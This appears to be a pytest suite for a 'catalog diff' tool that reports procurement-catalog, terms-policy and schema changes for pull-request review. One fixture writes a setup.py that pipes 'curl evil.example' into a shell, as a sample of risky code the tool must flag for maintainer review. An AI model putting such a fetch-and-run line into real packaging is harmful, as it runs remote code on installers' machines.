"""`catalog diff` on the demo catalog, as a reviewer reads it: what needs a maintainer, what the
terms policy and schemas now require, every override of a new solution, lists item by item, and a
Markdown summary that fits a GitHub comment with the whole report beside it."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from gitrepo import commit, edit, init

from site_builder.diff_format import COMMENT_LIMIT

from conftest import REPO

VEHICLE = "catalog/vehicles/ogs-it-umbrella-73600.yaml"
HARBORLINE = "catalog/contracts/harborline-it-umbrella.yaml"
POLICY = "schema/terms-policy.yaml"


@pytest.fixture
def demo_repo(demo_project: Path) -> Path:
    return init(demo_project)


def diff(run_cli: Any, root: Path, *args: str) -> str:
    result = run_cli("-C", root, "diff", "base", *args)
    assert result.exit_code == 0, result.stderr
    return str(result.output)


def _block(lines: list[str], heading: str) -> list[str]:
    """The indented lines under `heading` in the text format."""
    start = lines.index(heading) + 1
    end = next((i for i in range(start, len(lines)) if not lines[i].startswith("  ")), len(lines))
    return lines[start:end]


def test_paths_outside_the_catalog_need_a_maintainer_and_come_first(demo_repo: Path, run_cli: Any) -> None:
    (demo_repo / "setup.py").write_text("import os\nos.system('curl evil.example | sh')\n", encoding="utf-8")
    edit(demo_repo / "mkdocs.yml", ("site_name:", "# a comment\nsite_name:"))
    (demo_repo / ".github" / "workflows").mkdir(parents=True)
    (demo_repo / ".github" / "workflows" / "x.yml").write_text("on: push\n", encoding="utf-8")
    (demo_repo / "docs" / "about.md").write_text("changed\n", encoding="utf-8")
    (demo_repo / "pyproject.toml").write_text("[project]\n", encoding="utf-8")
    (demo_repo / "site_builder").mkdir()
    (demo_repo / "site_builder" / "cli.py").write_text("", encoding="utf-8")
    (demo_repo / "hook.sh").write_text("#!/bin/sh\n", encoding="utf-8")
    (demo_repo / "hook.sh").chmod(0o755)
    (demo_repo / "catalog" / "notes.txt").write_text("not an entry\n", encoding="utf-8")
    (demo_repo / "catalog" / "vendors" / "link.yaml").symlink_to("../../setup.py")
    edit(demo_repo / POLICY, ("max_notice_days: 60", "max_notice_days: 90"))
    text = diff(run_cli, demo_repo)
    assert text.splitlines()[1:12] == [
        "needs maintainer review (outside the catalog's entries):",
        "  .github/workflows/x.yml (added) — Workflows and review rules",
        "  schema/terms-policy.yaml (modified) — Schemas and terms policy",
        "  mkdocs.yml (modified) — Site configuration",
        "  docs/about.md (modified) — Site pages and documentation",
        "  pyproject.toml (added) — Packaging",
        "  setup.py (added) — Packaging",
        "  hook.sh (added, executable) — Code",
        "  site_builder/cli.py (added) — Code",
        "  catalog/notes.txt (added) — Catalog files that are not entries",
        "  catalog/vendors/link.yaml (added, a symbolic link) — Catalog files that are not entries",
    ]
    markdown = diff(run_cli, demo_repo, "--format", "markdown")
    assert markdown.index("### Needs maintainer review") < markdown.index("### Terms policy")
    assert "- **Packaging**\n  - pyproject\\.toml (added)\n  - setup\\.py (added)" in markdown
    commit(demo_repo, "everything")
    assert "setup.py (added) — Packaging" in diff(run_cli, demo_repo, "HEAD")


def test_a_pull_request_that_only_touches_code_is_not_no_changes(demo_repo: Path, run_cli: Any) -> None:
    (demo_repo / "setup.py").write_text("", encoding="utf-8")
    text = diff(run_cli, demo_repo)
    assert text.startswith("Catalog changes: none; 0 term(s) loosened, 0 tightened. 1 path(s) outside")


def test_policy_changes_in_words(demo_repo: Path, run_cli: Any) -> None:
    edit(
        demo_repo / POLICY,
        (
            "cyber_privacy_liability: {low: 2000000, moderate: 5000000, high: 10000000}",
            "cyber_privacy_liability: {low: 2000000, moderate: 5000000, high: 2000000}",
        ),
        ("min_multiple: 1.0", "min_multiple: 1.5"),
        (
            "required_carve_outs: [ip_infringement_indemnity, bodily_injury_death, tangible_property_damage]",
            "required_carve_outs: [ip_infringement_indemnity, bodily_injury_death]",
        ),
        ("allowed_data_locations: [US]", "allowed_data_locations: [US, CA]"),
        (
            "    moderate: [[fedramp_moderate], [govramp_moderate_authorized], [soc2_type2, iso27001]]",
            "    moderate: [[fedramp_moderate], [govramp_moderate_authorized], [soc2_type2]]",
        ),
        ("accessibility-report: warning", "accessibility-report: warning\n    breach-notification: warning"),
        ("in_state: [US-XE]", "in_state: [US-XE, US-DE]"),
        ('expires: "2027-06-01"', 'expires: "2028-06-01"'),
    )
    with (demo_repo / POLICY).open("a", encoding="utf-8") as policy:
        policy.write(
            "  - entry: solutions/harborline-cold-archive\n    rule: data-location\n"
            "    approver: Chief Procurement Officer (fictional)\n    reason: Test.\n"
            '    granted: "2026-11-01"\n    expires: "2027-01-01"\n'
        )
    lines = diff(run_cli, demo_repo).splitlines()
    assert _block(lines, "modified schema/terms-policy.yaml") == [
        "  ! Limitation of liability: required carve-out removed: damage to tangible property (loosened)",
        (
            "  ! Insurance: minimum cyber and privacy liability per claim for high-risk solutions $10M → $2M "
            "(loosened)"
        ),
        "  ! Data protection: allowed data location added: CA (loosened)",
        (
            "  ! Security credentials: credentials accepted for moderate-risk solutions "
            "fedramp_moderate; govramp_moderate_authorized; soc2_type2 + iso27001 → fedramp_moderate; "
            "govramp_moderate_authorized; soc2_type2 (loosened)"
        ),
        (
            "  ! Governing law: governing law accepted for contracts this jurisdiction awarded added: "
            "US-DE (loosened)"
        ),
        "  ! Severity: rule breach-notification error → warning (loosened)",
        (
            "  ! Waivers: waiver added: data-location for solutions/harborline-cold-archive, until 2027-01-01 "
            "(loosened)"
        ),
        (
            "  ! Waivers: waiver of insurance-minimum for solutions/harborline-records-vault (Insurance: cyber and "
            "privacy liability): expires 2027-06-01 → 2028-06-01 (loosened)"
        ),
        "    Limitation of liability: minimum cap multiple 1× → 1.5× (tightened)",
    ]


def test_emergency_authority_changes_in_words(demo_repo: Path, run_cli: Any) -> None:
    """An authority that reaches more buyers or longer purchases loosens; a new condition tightens."""
    edit(
        demo_repo / POLICY,
        (
            "    buyer_types: [state_agency]\n",
            (
                "    buyer_types: [state_agency, school_district]\n"
                "    conditions: [The head of the agency signs first]\n"
            ),
        ),
        ("    max_duration_days: 90\n", "    max_duration_days: 120\n"),
    )
    lines = diff(run_cli, demo_repo).splitlines()
    block = _block(lines, "modified schema/terms-policy.yaml")
    assert (
        "  ! Emergency authorities: buyer type authority state agency emergency applies to added: "
        "school district (loosened)"
    ) in block
    assert (
        "  ! Emergency authorities: longest purchase under authority state agency emergency 90 days → "
        "120 days (loosened)"
    ) in block
    assert (
        "    Emergency authorities: condition of authority state agency emergency added: The head of the "
        "agency signs first (tightened)"
    ) in block


def test_schema_changes_in_words(demo_repo: Path, run_cli: Any) -> None:
    path = demo_repo / "schema" / "solution.schema.json"
    schema = json.loads(path.read_text(encoding="utf-8"))
    schema["required"].remove("risk_tier")
    schema["properties"]["offered_under"]["maxItems"] = 100
    schema["properties"]["tags"]["maxItems"] = 2000
    schema["properties"]["deployment_model"]["enum"].append("anything_else")
    schema["properties"]["summary"]["description"] = "Changed words only."
    schema["additionalProperties"] = True
    path.write_text(json.dumps(schema, indent=2), encoding="utf-8")
    common = demo_repo / "schema" / "common.schema.json"
    edit(common, ('"pattern": "^[a-z0-9]+(-[a-z0-9]+)*$"', '"pattern": "^.*$"'))
    lines = diff(run_cli, demo_repo).splitlines()
    block = _block(lines, "modified schema/solution.schema.json")
    assert (
        "  ! the whole document: now open to other fields (additionalProperties: false → true) (loosened)"
        in block
    )
    assert "  ! the whole document: required field removed: risk_tier (loosened)" in block
    assert "  ! field offered_under: most items 10 → 100 (loosened)" in block
    assert "  ! field deployment_model: value accepted added: anything_else (loosened)" in block
    assert "  ! field tags: most items 15 → 2000 (loosened)" in lines
    assert "    1 description(s) or title(s) changed" in lines
    assert any("pattern" in line and "(not comparable: review as loosened)" in line for line in lines)
    assert "Policy and schemas:" in lines[0]


def test_a_new_solution_shows_every_override_against_its_contract(demo_repo: Path, run_cli: Any) -> None:
    """The case that passed as "tightened": a per-record cap where the contract has none."""
    text = (demo_repo / "catalog/solutions/harborline-cold-archive.yaml").read_text(encoding="utf-8")
    text = text.replace("harborline-cold-archive", "harborline-new-archive").replace(
        "Cold Archive", "New Archive"
    )
    assert "terms_overrides" not in text
    text += (
        "terms_overrides:\n  indemnification:\n    data_breach_costs: {cap_per_record: 1}\n"
        "  data_protection:\n    breach_notification: {confirmed_breach_hours: 24}\n"
        "  limitation_of_liability:\n    carve_outs: [gross_negligence, fraud]\n"
    )
    (demo_repo / "catalog/solutions/harborline-new-archive.yaml").write_text(text, encoding="utf-8")
    lines = diff(run_cli, demo_repo).splitlines()
    assert _block(lines, "added    solution harborline-new-archive — Harborline New Archive") == [
        (
            "  ! Indemnification: data breach cost indemnity, cap per record not stated (no cap: unlimited) → $1 "
            "(loosened)"
        ),
        "    Limitation of liability: carve-out added: fraud (tightened)",
        "    Data protection: confirmed breach notice 48 h (contract) → 24 h (tightened)",
        "    Limitation of liability: carve-out gross negligence: restates the contract (neutral)",
    ]
    commit(demo_repo, "new archive")  # the same from two commits: the contract read from git
    assert diff(run_cli, demo_repo, "HEAD") == diff(run_cli, demo_repo)
    result = run_cli("-C", demo_repo, "validate", "--format", "parsable")
    assert result.exit_code == 1
    (line,) = [line for line in result.output.splitlines() if "(override-loosens)" in line]
    assert line.startswith("catalog/solutions/harborline-new-archive.yaml:")
    assert "cap per record is not stated (no cap: unlimited)" in line, line


def test_a_removed_carve_out_is_named_never_cut(demo_repo: Path, run_cli: Any) -> None:
    edit(demo_repo / VEHICLE, ("      - willful_misconduct\n", ""))
    markdown = diff(run_cli, demo_repo, "--format", "markdown")
    assert (
        "**Limitation of liability\\: carve\\-out removed\\: willful misconduct \\(loosened\\)**" in markdown
    )
    assert "…" not in markdown
    assert "applies to 13 solutions offered under it\\: bluestem\\-privileged\\-access\\-vault" in markdown
    commit(demo_repo, "amendment")  # the solutions under it found in git, not on disk
    assert diff(run_cli, demo_repo, "HEAD", "--format", "markdown") == markdown


def test_markdown_fits_a_comment_and_the_full_report_is_written_beside_it(
    demo_repo: Path, run_cli: Any, tmp_path: Path
) -> None:
    source = (demo_repo / "catalog/solutions/harborline-cold-archive.yaml").read_text(encoding="utf-8")
    for number in range(700):
        new_id = f"harborline-copy-{number}"
        body = source.replace("harborline-cold-archive", new_id)
        body += "terms_overrides:\n  data_protection:\n    breach_notification: {confirmed_breach_hours: 1}\n"
        (demo_repo / f"catalog/solutions/{new_id}.yaml").write_text(body, encoding="utf-8")
    (demo_repo / "setup.py").write_text("", encoding="utf-8")
    full = tmp_path / "out" / "summary.md"
    short = diff(run_cli, demo_repo, "--format", "markdown", "--full-report", str(full))
    whole = full.read_text(encoding="utf-8")
    assert len(whole) > COMMENT_LIMIT
    assert len(short) <= COMMENT_LIMIT
    assert short.startswith("## Catalog changes")
    assert "### Needs maintainer review" in short  # first things first
    kept = short.splitlines()[:-3]
    assert whole.startswith("\n".join(kept))  # whole lines only, in order
    note = short.splitlines()[-1]
    left = len(whole.splitlines()) - len(kept)
    assert note.startswith(f"**Shortened to fit a comment: {left} more line(s) are in the full report**")
    unlimited = diff(run_cli, demo_repo, "--format", "markdown", "--max-chars", "0")
    assert unlimited == whole


def _policy_schema_paths() -> list[str]:
    """Every requirement the policy schema allows, "*" for a name the policy chooses."""
    documents = {
        name: json.loads((REPO / "schema" / name).read_text(encoding="utf-8"))
        for name in (
            "terms-policy.schema.json",
            "terms.schema.json",
            "common.schema.json",
            "contract.schema.json",
            "solution.schema.json",
            "scenario.schema.json",
        )
    }
    schema = documents["terms-policy.schema.json"]
    found: list[str] = []

    def resolve(node: dict[str, Any]) -> dict[str, Any]:
        ref = node.get("$ref", "")
        document = documents.get(ref.partition("#")[0], schema)
        if ref:
            target: Any = document
            for part in filter(None, ref.partition("#")[2].split("/")):
                target = target[part]
            return {**target, **{k: v for k, v in node.items() if k != "$ref"}}
        return node

    def walk(node: dict[str, Any], path: list[str]) -> None:
        node = resolve(node)
        children = [(k, v) for k, v in node.get("properties", {}).items()]
        children += [("*", v) for v in node.get("patternProperties", {}).values()]
        if isinstance(node.get("additionalProperties"), dict):
            children.append(("*", node["additionalProperties"]))
        if node.get("type") == "object" and children:
            for name, child in children:
                walk(child, [*path, name])
        elif path[-1] != "section":
            found.append(".".join(path))

    walk(schema, [])
    return found


def test_every_requirement_of_the_policy_is_in_its_vocabulary() -> None:
    from site_builder.diff_policy import policy_field
    from site_builder.policy_vocabulary import UNKNOWN

    handled_apart = {"waivers", "severity.rules.*"}  # matched by what they waive / by rule
    # term requirements are told by term and bound, with the terms' own vocabulary
    paths = [
        p for p in _policy_schema_paths() if p not in handled_apart and not p.startswith("term_requirements.")
    ]
    assert "insurance.required.*.per_claim" in paths
    unknown = [p for p in paths if policy_field(p.replace("*", "x"))[0] is UNKNOWN]
    assert not unknown, f"add these to site_builder/policy_vocabulary.py: {unknown}"


CONTRIBUTING = REPO / "CONTRIBUTING.md"


def test_contributing_shows_what_catalog_diff_prints_for_its_example(demo_repo: Path, run_cli: Any) -> None:
    """The pull-request summary in CONTRIBUTING.md is the real output for the edit it describes."""
    edit(
        demo_repo / VEHICLE,
        ("    multiple: 2\n", "    multiple: 1.5\n"),
        ("      confirmed_breach_hours: 48\n", "      confirmed_breach_hours: 24\n"),
        ("      - willful_misconduct\n", ""),
    )
    text = CONTRIBUTING.read_text(encoding="utf-8")
    block = text.split("$ catalog diff origin/main\n", 1)[1].split("```", 1)[0]
    assert diff(run_cli, demo_repo) == block
